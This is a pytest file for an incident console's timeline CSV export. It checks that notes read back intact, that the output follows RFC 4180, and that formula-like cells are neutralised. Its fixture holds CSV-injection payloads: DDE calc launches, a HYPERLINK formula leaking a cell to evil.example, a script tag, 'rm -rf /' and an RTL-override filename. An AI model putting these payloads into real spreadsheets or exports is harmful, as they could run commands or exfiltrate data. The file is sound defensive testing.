"""The timeline as CSV: hostile text goes in, the same text comes out, inert.

The CSV is made from a real incident's JSON export document and read back with Python's csv
module.
"""

import csv
import io

import pytest

from console import incident_json, timeline_csv

HOSTILE_NOTES = [
    'db1, db2 and "db3" are down; failover | pending',
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+1 from Ben",
    "-5% error rate after the rollback",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted' from the vendor's status page",
    "'=already prefixed",
    "<script>alert('x')</script> `rm -rf /` ```code```",
    "first line\nsecond line, with a comma\n\nfourth \"line\"",
    "\u202egnp.exe \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (RTL)",
    "tab\tinside | a | pipe | table |",
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.fixture
def document(service, clock):
    incident = service.incidents.declare("Checkout down, \"badly\"", by="Ana", severity=2).incident
    ids = []
    for note in HOSTILE_NOTES:
        clock.advance(seconds=30)
        ids.append(service.timeline.log(incident.id, note, by="=Eve, \"the scribe\"").entries[0].id)
    clock.advance(seconds=30)
    service.history.set_pin(incident.id, ids[0], True, by="Ana")
    service.history.revise(incident.id, ids[3], "+2 from Ben, corrected", by="Ana")
    service.history.retract(incident.id, ids[4], by="Ana", reason="wrong graph")
    return incident_json.to_document(service.read, incident.id)


def test_the_timeline_csv_reads_back_through_pythons_csv_reader(document):
    text = timeline_csv.timeline_csv(document)
    rows = read_csv(text)
    assert rows[0] == list(timeline_csv.TIMELINE_COLUMNS) == [
        "occurred_at", "kind", "author", "text", "recorded_at", "pinned", "retracted"]
    assert len(rows) == 1 + len(document["timeline"])
    assert all(len(row) == 7 for row in rows)
    by_id = {item["id"]: item for item in document["timeline"]}
    notes = [row for row in rows[1:] if row[1] == "note"]
    assert [timeline_csv.from_csv_cell(row[3]) for row in notes] == [
        "+2 from Ben, corrected" if i == 3 else note for i, note in enumerate(HOSTILE_NOTES)
    ]
    for row, item in zip(rows[1:], document["timeline"], strict=True):
        assert row[0] == item["occurred_at"] and row[4] == item["recorded_at"]
        assert row[1] == item["kind"]
        assert timeline_csv.from_csv_cell(row[2]) == item["author"]
        assert row[5] == ("true" if by_id[item["id"]]["pinned"] else "false")
        assert row[6] == ("true" if item["retracted"] else "false")
    assert notes[0][5] == "true" and notes[4][6] == "true"


def test_the_csv_is_rfc_4180(document):
    text = timeline_csv.timeline_csv(document)
    assert text.startswith('"occurred_at","kind","author","text",')
    assert text.endswith("\r\n")
    # Every record ends in CRLF; a line break inside a note stays inside its quotes.
    assert text.count("\r\n") == 1 + len(document["timeline"])
    assert '"db1, db2 and ""db3"" are down; failover | pending"' in text
    text.encode("utf-8")  # no lone surrogates: writable as UTF-8


def test_no_cell_starts_like_a_formula(document):
    for row in read_csv(timeline_csv.timeline_csv(document)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert timeline_csv.to_csv_cell("=1+1") == "'=1+1"
    assert timeline_csv.to_csv_cell("'=1+1") == "''=1+1"
    assert timeline_csv.to_csv_cell("2026-03-29T14:00:00.000Z") == "2026-03-29T14:00:00.000Z"


@pytest.mark.parametrize("value", [
    "", "'", "''", "'a", "=", "'=", "-", "plain", "@x", "\tx", "a=b", "'''=x",
])
def test_the_formula_prefix_is_always_reversible(value):
    assert timeline_csv.from_csv_cell(timeline_csv.to_csv_cell(value)) == value
